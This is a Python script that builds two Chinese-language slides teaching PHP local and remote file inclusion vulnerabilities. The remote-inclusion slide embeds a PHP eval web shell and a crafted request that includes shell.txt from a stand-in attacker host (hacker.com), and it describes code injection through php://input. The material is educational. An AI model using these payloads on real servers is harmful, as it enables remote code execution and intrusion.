

import dataclasses
import pptx
import pptx.dml.color
import pptx.enum.dml
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml.ns
import pptx.util
import lxml.etree

Cm = pptx.util.Cm
Pt = pptx.util.Pt
KIND = pptx.enum.shapes.MSO_SHAPE
ALIGN = pptx.enum.text.PP_ALIGN
ANCHOR = pptx.enum.text.MSO_ANCHOR


@dataclasses.dataclass(frozen=True)
class Theme:
    """Colours, fonts and type size of the deck."""
    blue: str = "0050A3"
    gold: str = "FFC000"
    grey: str = "A6A6A6"
    pale: str = "F2F2F2"
    white: str = "FFFFFF"
    dark: str = "404040"
    mid: str = "595959"
    red: str = "FF0000"
    glow: str = "FFFF00"
    serif: str = "Times New Roman"
    sans: str = "Noto Sans CJK SC"
    size: int = 24


T = Theme()
WIDE, HIGH = 35.72, 20.09


def tint(code):
    """Turn a hex code into a colour."""
    return pptx.dml.color.RGBColor.from_string(code)


def node(base, tag, **attrs):
    """Append a drawing element to a parent."""
    child = lxml.etree.SubElement(base, pptx.oxml.ns.qn("a:" + tag))
    for key, value in attrs.items():
        child.set(key, str(value))
    return child


def paint(shape, hue=None, edge=None, width=1):
    """Set fill and outline and drop the shadow."""
    shape.shadow.inherit = False
    if hue:
        shape.fill.solid()
        shape.fill.fore_color.rgb = tint(hue)
    else:
        shape.fill.background()
    if edge:
        shape.line.color.rgb = tint(edge)
        shape.line.width = Pt(width)
    else:
        shape.line.fill.background()
    return shape


def slab(slide, kind, box, *look):
    """Add a preset shape in a box."""
    return paint(slide.shapes.add_shape(kind, *map(Cm, box)), *look)


def cap(slide, box, hue, turn):
    """Add a bar with one rounded end, turned on its side."""
    x, y, w, h = box
    bar = slab(slide, KIND.ROUND_2_SAME_RECTANGLE,
               (x + (w - h) / 2, y + (h - w) / 2, h, w), hue)
    bar.adjustments[0] = 0.5
    bar.rotation = turn


def trace(slide, rings, hue, x=0, y=0):
    """Fill closed rings that share one outline."""
    rings = [[(Cm(x + a), Cm(y + b)) for a, b in ring] for ring in rings]
    pen = slide.shapes.build_freeform(*rings[0][0], scale=1.0)
    for place, ring in enumerate(rings):
        if place:
            pen.move_to(*ring[0])
        pen.add_line_segments(ring[1:], close=True)
    paint(pen.convert_to_shape(), hue)


def curve(start, one, two, end, steps=8):
    """Sample a cubic curve, leaving out its start."""
    points = []
    for step in range(1, steps + 1):
        t = step / steps
        mix = ((1 - t) ** 3, 3 * t * (1 - t) ** 2, 3 * t * t * (1 - t), t ** 3)
        points.append(tuple(sum(m * p[i] for m, p in zip(mix, (start, one, two, end)))
                            for i in (0, 1)))
    return points


def ring(x, y, w, h, r=0):
    """Return a rectangle's points, with rounded corners if asked."""
    if not r:
        return [(x, y), (x + w, y), (x + w, y + h), (x, y + h)]
    k = r * 0.45
    right, low = x + w, y + h
    return [*curve((x, y + r), (x, y + k), (x + k, y), (x + r, y)),
            (right - r, y),
            *curve((right - r, y), (right - k, y), (right, y + k), (right, y + r)),
            (right, low - r),
            *curve((right, low - r), (right, low - k), (right - k, low), (right - r, low)),
            (x + r, low),
            *curve((x + r, low), (x + k, low), (x, low - k), (x, low - r))]


def shift(points, x, y):
    """Move points by an offset."""
    return [(a + x, b + y) for a, b in points]


def shield(slide, x, y):
    """Draw the shield icon."""
    left, right, top, tip = (0.1, 0.18), (1.4, 0.18), (0.75, 0), (0.75, 1.04)
    rim = [right,
           *curve(right, (1.14, 0.18), (0.94, 0.13), top),
           *curve(top, (0.58, 0.13), (0.38, 0.18), left),
           *curve(left, (0.1, 0.46), (0, 0.86), tip),
           *curve(tip, (1.5, 0.86), (1.4, 0.46), right)]
    upper = [(0.25, 0.25), (0.48, 0.23), (0.69, 0.18), (0.69, 0.48), (0.25, 0.48)]
    lower = [(0.84, 0.58), (1.22, 0.58), (1.19, 0.66), (1.04, 0.81), (0.84, 0.91)]
    trace(slide, [rim, upper, lower], T.white, x, y)


def laptop(slide, x, y):
    """Draw the laptop icon with its lettered screen."""
    stem = [(0, 0), (0.13, 0), (0.18, 0.05), (0.18, 0.13), (0.13, 0.18),
            (0.05, 0.18), (0.05, 0.28), (0, 0.28)]
    bowl = ring(0.05, 0.05, 0.08, 0.08)
    bars = [(0, 0), (0.05, 0), (0.05, 0.11), (0.17, 0.11), (0.17, 0), (0.22, 0),
            (0.22, 0.28), (0.17, 0.28), (0.17, 0.16), (0.05, 0.16), (0.05, 0.28), (0, 0.28)]
    signs = [shift(part, at, 0.43) for at in (0.48, 1.04) for part in (stem, bowl)]
    trace(slide, [ring(0.06, 0, 1.57, 1.07, 0.12), ring(0.18, 0.1, 1.34, 0.92, 0.03),
                  ring(0.23, 0.18, 1.24, 0.79), *signs, shift(bars, 0.74, 0.43),
                  ring(0, 1.07, 1.7, 0.18, 0.07), ring(0.06, 1.12, 1.57, 0.05)],
          T.white, x, y + 0.86)


def screen(slide, x, y):
    """Draw the monitor icon with its code sign."""
    left = [(0.66, 0.38), (0.71, 0.43), (0.71, 0.48), (0.53, 0.56), (0.71, 0.64),
            (0.71, 0.71), (0.66, 0.74), (0.38, 0.61), (0.38, 0.51)]
    right = [(1.7 - a, b) for a, b in left]
    slash = [(0.94, 0.23), (0.98, 0.3), (0.81, 0.86), (0.76, 0.86), (0.71, 0.81), (0.89, 0.25)]
    trace(slide, [ring(0, 0, 1.7, 1.12, 0.1), ring(0.13, 0.13, 1.45, 0.86), left, right, slash,
                  ring(0.66, 1.12, 0.38, 0.18), ring(0.36, 1.3, 0.99, 0.15, 0.07)],
          T.white, x, y + 0.74)


def style(run, marks, hue):
    """Format a run: b bold, u underline, h highlight, r red, s sans."""
    font = run.font
    font.size = Pt(T.size)
    font.bold = "b" in marks
    if "u" in marks:
        font.underline = True
    font.color.rgb = tint(T.red if "r" in marks else hue)
    props = run._r.get_or_add_rPr()
    if "h" in marks:
        node(node(props, "highlight"), "srgbClr", val=T.glow)
    font.name = T.sans if "s" in marks else T.serif
    node(props, "ea", typeface=T.sans)


def write(slide, box, paras, hue, pad=(0.25, 0.13), anchor=ANCHOR.TOP):
    """Add a text box of paragraphs made of marked runs."""
    frame = slide.shapes.add_textbox(*map(Cm, box)).text_frame
    frame.word_wrap = True
    frame.auto_size = pptx.enum.text.MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT
    frame.vertical_anchor = anchor
    frame.margin_left = frame.margin_right = Cm(pad[0])
    frame.margin_top = frame.margin_bottom = Cm(pad[1])
    for place, runs in enumerate(paras):
        para = frame.add_paragraph() if place else frame.paragraphs[0]
        for text, marks in runs:
            run = para.add_run()
            run.text = text
            style(run, marks, hue)
    return frame


def count(para):
    """Number a paragraph with a hanging indent."""
    props = para._p.get_or_add_pPr()
    props.set("marL", str(Cm(1.27)))
    props.set("indent", str(-Cm(1.27)))
    node(props, "buFont", typeface=T.sans)
    node(props, "buAutoNum", type="arabicPeriod")


def border(slide):
    """Draw the thin frame and the four corner brackets."""
    slab(slide, KIND.RECTANGLE, (0.23, 0.23, WIDE - 0.46, HIGH - 0.46), None, T.grey, 2)
    bend = [(0, 0), (6.07, 0), (5.77, 0.3), (0.3, 0.3), (0.3, 4.05), (0, 4.35)]
    for east in (False, True):
        for south in (False, True):
            trace(slide, [[(WIDE - a if east else a, HIGH - b if south else b)
                           for a, b in bend]], T.blue)


def header(slide, x, y, text):
    """Draw the title pill with its shield."""
    cap(slide, (x + 2.49, y + 0.02, 7.77, 1.37), T.blue, 90)
    cap(slide, (x, y, 2.49, 1.42), T.grey, 270)
    write(slide, (x + 2.72, y - 0.01, 8.48, 2.44), [[(text, "b")]], T.white, (0.39, 0.2))
    shield(slide, x + 0.61, y + 0.2)


def card(slide, x, y, paras):
    """Draw a white card over a blue backing."""
    slab(slide, KIND.RECTANGLE, (x, y, 28.52, 7.06), T.blue, T.blue)
    slab(slide, KIND.RECTANGLE, (x + 0.66, y + 0.53, 28.98, 7.26), T.white, T.blue)
    write(slide, (x + 1.9, y + 0.53, 26.95, 6.4), paras, T.dark)


def arrow(slide, x, y, long):
    """Draw a dashed arrow that starts with a dot."""
    link = slide.shapes.add_connector(pptx.enum.shapes.MSO_CONNECTOR.STRAIGHT,
                                      Cm(x), Cm(y), Cm(x + long), Cm(y))
    link.line.color.rgb = tint(T.grey)
    link.line.width = Pt(1.5)
    link.line.dash_style = pptx.enum.dml.MSO_LINE.SQUARE_DOT
    edge = link.line._get_or_add_ln()
    node(edge, "headEnd", type="oval")
    node(edge, "tailEnd", type="triangle")
    node(link._element.spPr, "effectLst")


def badge(slide, x, y, hue, icon):
    """Draw a hexagon with a soft shadow, an icon and an arrow."""
    tile = slab(slide, KIND.HEXAGON, (x, y, 3.4, 2.95), hue)
    glow = tile._element.spPr.find(pptx.oxml.ns.qn("a:effectLst"))
    shade = node(glow, "outerShdw", blurRad=Pt(4), dist=Pt(3), dir=45 * 60000,
                 algn="tl", rotWithShape=0)
    node(node(shade, "srgbClr", val="000000"), "alpha", val=20000)
    arrow(slide, x + 3.68, y + 1.47, 1.93)
    icon(slide, x + 0.84, y)


def local(slide):
    """Build the slide on local file inclusion."""
    border(slide)
    intro = write(slide, (3.05, 4.04, 29.59, 6.22), [[
        ("如果被包含文件的文件名是从用户处获得的，且没有经过恰当的检测，从而包含了预想之外的文件，导致了文件泄露甚至是恶意代码注入，这就是文件包含漏洞", "b"),
        ("。如果被包含的文件储存在服务器上，那么对于应用来说，", ""),
        ("被包含的文件就在本地", "r"), ("，就称之为", ""),
        ("本地文件包含漏洞", "h"), ("。", "")]], T.dark)
    intro.paragraphs[0].alignment = ALIGN.JUSTIFY
    intro.paragraphs[0].line_spacing = 1.5
    header(slide, 1.65, 2.42, "本地文件包含漏洞")
    card(slide, 3.02, 10.64, [
        [("场景一：包含上传的合法文件", "b")],
        [("通常应用中都会有文件上传的功能，比如用户头像上传、附件上传等。通过文件上传，攻击者将能携带有恶意代码的合法文件上传到服务器中，由于", "s"),
         ("在include等语句中，无论被包含文件的后缀名是什么，只要其中有PHP的代码，都会将其执行。", "sr"),
         ("结合文件包含漏洞，可以将上传的恶意文件引入，使其中的恶意代码得到执行。", "s")]])


def remote(slide):
    """Build the slide on remote files and pseudo protocols."""
    border(slide)
    badge(slide, 2.87, 10.87, T.gold, screen)
    write(slide, (8.41, 8.69, 24.84, 8.46), [
        [("2. 通过", "b"), ("PHP伪协议", "bh"), ("进行包含", "b")],
        [("在PHP中，如果allow_url_fopen和allow_url_include同时开启的情况下，", ""),
         ("include", "buh"), ("等函数支持从PHP伪协议中的php://input处获取输入流", "bh"),
         ("，关于PHP伪协议的相关知识会在下面讨论，这里只关注其中的", ""),
         ("php://input", "b"), ("。", "")],
        [("php://input可以", "r"), ("访问请求的原始数据的只读流", "ru"),
         ("，也就是通过", "r"), ("POST", "ru"), ("方式发送的内容。", "r"),
         ("借助PHP伪协议，攻击者直接将想要在服务器上执行的恶意代码通过POST的方式发送给服务器就能完成攻击", "rb"),
         ("。", "")]], T.mid, anchor=ANCHOR.MIDDLE)
    badge(slide, 2.87, 3.15, T.blue, laptop)
    first = write(slide, (8.56, 1.42, 25.1, 6.4), [
        [("包含攻击者服务器上的恶意文件", "b")],
        [("由于allow_url_fopen与 allow_url_include 是开启的，攻击者可以", ""),
         ("将包含恶意代码的文件", "b"), ("放在自己的服务器上", "bh"),
         ("，例如一个内容为", ""), ("<?php eval($_POST[‘pass’]);?>", "h"),
         ("的shell.txt文件，", ""), ("构造恶意请求", "b"),
         ("http://www.victim.com/index.php", ""),
         ("?func=http://www.hacker.com/shell.txt", "rb"),
         ("，shell.txt中的恶意代码就会在目标服务器上执行。", "")]],
        T.dark, anchor=ANCHOR.MIDDLE)
    count(first.paragraphs[0])


def main():
    """Build and save the deck."""
    deck = pptx.Presentation()
    deck.slide_width, deck.slide_height = Cm(WIDE), Cm(HIGH)
    ground = deck.slide_master.background.fill
    ground.patterned()
    ground.pattern = pptx.enum.dml.MSO_PATTERN.WIDE_UPWARD_DIAGONAL
    ground.fore_color.rgb = tint(T.pale)
    ground.back_color.rgb = tint(T.white)
    for build in (local, remote):
        build(deck.slides.add_slide(deck.slide_layouts[6]))
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
